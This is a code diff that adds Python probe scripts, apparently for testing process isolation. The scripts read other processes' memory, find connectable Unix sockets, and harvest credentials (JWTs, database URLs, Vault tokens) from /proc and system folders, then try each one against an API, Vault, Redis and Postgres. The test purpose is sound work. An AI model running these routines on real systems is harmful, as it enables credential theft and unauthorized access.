@@ -13,3 +13,125 @@ for pid in filter(str.isdigit, os.listdir("/proc")):
         print(pid, content.decode(errors="replace"))
 """
 """Prints the environments of other processes that it can read and that hold something."""
+
+MEMORIES = """
+import os, re
+MARK = os.environ["MARK"].encode()[::-1]
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    if int(pid) in (os.getpid(), os.getppid()):
+        continue
+    try:
+        maps, memory = open(f"/proc/{pid}/maps").readlines(), open(f"/proc/{pid}/mem", "rb", 0)
+    except OSError:
+        continue
+    for line in maps:
+        found = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
+        if not found:
+            continue
+        start, end = (int(each, 16) for each in found.groups())
+        try:
+            memory.seek(start)
+            if MARK in memory.read(min(end - start, 64 << 20)):
+                print("found in", pid)
+                break
+        except (OSError, OverflowError, ValueError):
+            continue
+"""
+"""Prints the processes in whose memory it finds the text that MARK holds backwards."""
+
+SOCKETS = """
+import os, socket
+for path in sorted({line.split()[-1] for line in open("/proc/net/unix") if "/" in line}):
+    if not path.startswith(os.environ["BELOW"]):
+        continue
+    link = socket.socket(socket.AF_UNIX)
+    link.settimeout(3)
+    try:
+        link.connect(path)
+        print(path)
+    except OSError:
+        pass
+"""
+"""Prints the sockets below the folder BELOW that take a connection."""
+
+TRIED = r"""
+import itertools, json, os, re, socket, urllib.error, urllib.request
+LARGEST, MOST = 1 << 20, 20_000
+found = {"token": set(), "url": set(), "vault": set()}
+PATTERNS = {
+    "token": rb"eyJ[\w-]{8,}\.eyJ[\w-]{8,}\.[\w-]{20,}",
+    "url": rb"(?:redis|postgres\w*(?:\+\w+)?)://[^\s\"'<>]+@[^\s\"'<>]+",
+    "vault": rb"\b(?:hv|s|b)[sb]?\.[A-Za-z0-9]{20,}\b",
+}
+
+def look(content):
+    for kind, pattern in PATTERNS.items():
+        found[kind].update(each.decode(errors="replace") for each in re.findall(pattern, content))
+
+def read(name):
+    try:
+        if name.startswith("/proc/") or (os.path.isfile(name) and os.path.getsize(name) < LARGEST):
+            with open(name, "rb") as file:
+                return file.read(LARGEST)
+    except OSError:
+        pass
+    return b""
+
+def processes():
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        if int(pid) != os.getpid():
+            yield from (f"/proc/{pid}/{name}" for name in ("environ", "cmdline"))
+
+def files(places):
+    for place in places:
+        for folder, folders, names in os.walk(place):
+            folders[:] = [name for name in folders if not name.startswith(("site-packages", "python3", "__py"))]
+            yield from (os.path.join(folder, name) for name in names)
+
+# What processes are told names folders that cannot be listed from above.
+told = b"\0".join(map(read, processes()))
+look(told)
+named = {each.decode() for each in re.findall(rb"/[\w./-]{3,}", told)}
+named = {each for each in named if not each.startswith(("/usr", "/proc", "/sys"))}
+places = {each if os.path.isdir(each) else os.path.dirname(each) for each in named} - {"/", ""}
+usual = ["/etc", "/run", "/tmp", "/var/tmp", "/dev/shm", "/home", "/root", "/opt", "/srv"]
+state = os.environ["STATE"]
+near = sorted(place for place in places if place.startswith(state + "/"))
+for name in itertools.islice(files([*near, state, *usual, *sorted(places)]), MOST):
+    look(read(name))
+
+def answered(url, headers):
+    try:
+        return urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=10).status == 200
+    except (OSError, ValueError):
+        return False
+
+def redis(url):
+    user, _, password = url.split("://")[1].rpartition("@")[0].partition(":")
+    with socket.create_connection(("127.0.0.1", int(os.environ["REDIS"])), 5) as link:
+        link.sendall(f"AUTH {user} {password}\r\n".encode() if user else f"AUTH {password}\r\n".encode())
+        return link.recv(100).startswith(b"+OK")
+
+def postgres(url):
+    import psycopg
+    plain = re.sub(r"^postgres\w*(\+\w+)?:", "postgresql:", url)
+    with psycopg.connect(plain, connect_timeout=5):
+        return True
+
+opened = []
+api = os.environ["API"]
+for token in found["token"]:
+    bearer = {"Authorization": f"Bearer {token}"}
+    opened += [path for path in ("/api/v2/dags", "/execution/dags/beta.keeps") if answered(api + path, bearer)]
+for token in found["vault"]:
+    if answered(os.environ["VAULT"] + "/v1/auth/token/lookup-self", {"X-Vault-Token": token}):
+        opened.append("the secrets store")
+for url in found["url"]:
+    try:
+        if (redis if url.startswith("redis") else postgres)(url):
+            opened.append(url.split("://")[0])
+    except Exception:
+        pass
+print(", ".join(sorted(set(opened))))
+"""
+"""Walks through files, environments and command lines, tries what looks like a login, and prints what lets it in."""
